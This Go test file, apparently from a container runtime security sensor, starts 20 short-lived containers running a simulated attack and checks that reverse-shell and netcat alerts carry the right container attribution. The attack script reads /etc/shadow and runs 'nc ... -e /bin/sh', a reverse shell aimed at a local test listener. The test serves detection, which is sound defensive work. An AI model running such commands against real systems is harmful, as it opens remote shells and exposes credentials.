//go:build linux && amd64

package sensor

import (
	"fmt"
	"net"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/vigilsec/vigil/internal/event"
	"github.com/vigilsec/vigil/internal/sensor/runctest"
)

// TestShortLivedContainers runs, 20 times, a container started after the
// sensor whose own command is an attack: half exit within tens of
// milliseconds, the others after a second. Every event of every container's
// processes must carry the container's id and runtime (none the host's),
// and the reverse shell and netcat alerts must be raised for each.
func TestShortLivedContainers(t *testing.T) {
	h := sensorHarness(t)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	port := ln.Addr().(*net.TCPAddr).Port
	var wg sync.WaitGroup
	defer wg.Wait()
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			// The reverse shell runs one command and ends.
			wg.Add(1)
			go func() {
				defer wg.Done()
				defer c.Close()
				fmt.Fprintf(c, "id\nexit\n")
				c.SetReadDeadline(time.Now().Add(10 * time.Second))
				buf := make([]byte, 256)
				for {
					if _, err := c.Read(buf); err != nil {
						return
					}
				}
			}()
		}
	}()

	stop := h.record()
	const runs = 20
	type run struct {
		c     *runctest.Container
		quick bool
	}
	var all []run
	for i := range runs {
		id := fmt.Sprintf("%s-%d", runctest.UniqueID(t), i)
		h.watch(id)
		script := fmt.Sprintf("cat /etc/shadow >/dev/null; mkdir -p /tmp/d && cp /bin/busybox /tmp/d/b && chmod +x /tmp/d/b && /tmp/d/b true; nc 127.0.0.1 %d -e /bin/sh", port)
		quick := i%2 == 0
		if !quick {
			script = "sleep 1; " + script
		}
		c := runctest.Start(t, runctest.Options{ID: id, Args: []string{"sh", "-c", script}})
		all = append(all, run{c, quick})
		if quick {
			// Wait for it: the next one starts after it is gone.
			if code := c.Wait(30 * time.Second); code != 0 {
				t.Fatalf("container %s exited %d: %s", id, code, c.Stderr())
			}
		}
	}
	for _, r := range all {
		if code := r.c.Wait(30 * time.Second); code != 0 {
			t.Fatalf("container %s exited %d: %s", r.c.ID, code, r.c.Stderr())
		}
	}
	for _, r := range all {
		id := r.c.ID
		for _, title := range []string{
			"Reverse Shell - Shell With a Network Socket as Standard Input or Output",
			"Netcat or Socat Executing a Program for a Connection",
		} {
			a, err := h.alert(id, title, waitFor, nil)
			if err != nil {
				t.Errorf("container %s (quick %v): %v", id, r.quick, err)
				continue
			}
			if k := a.Events[len(a.Events)-1].Container; k.Runtime != "runc" {
				t.Errorf("container %s: alert %q runtime %q", id, title, k.Runtime)
			}
		}
	}
	// Every event the sensor has handled by now: the containers' last
	// records came before their alerts.
	time.Sleep(200 * time.Millisecond)
	events := stop()
	for _, r := range all {
		id := r.c.ID
		evs := lineage(events, int64(r.c.PID()))
		execs := map[string]bool{}
		files := map[string]bool{}
		for _, e := range evs {
			k := e.Container
			if k == nil || k.ContainerID != id || k.Runtime != "runc" {
				t.Errorf("container %s (quick %v): event %s attributed to %+v", id, r.quick, event.AppendJSON(nil, e, false), k)
			}
			if e.EventName == "execve" {
				execs[e.Proc.Path] = true
			}
			if e.File != nil {
				files[e.EventName+" "+e.File.Path] = true
			}
		}
		// Paths are the container's, however briefly it lived.
		for _, f := range []string{"create /tmp/d/b", "chmod /tmp/d/b"} {
			if !files[f] {
				t.Errorf("container %s (quick %v): no %s among %v", id, r.quick, f, files)
			}
		}
		// busybox's sh runs cat, mkdir, cp and chmod itself.
		if !execs["/bin/sh"] || !execs["/tmp/d/b"] || !execs["/bin/nc"] {
			var names []string
			for _, e := range evs {
				names = append(names, e.EventName+" "+e.Proc.Path)
			}
			t.Errorf("container %s (quick %v, pid %d): execs %v; events: %s", id, r.quick, r.c.PID(), execs, strings.Join(names, ", "))
		}
	}
	if t.Failed() {
		t.Log(h.dump())
	}
}
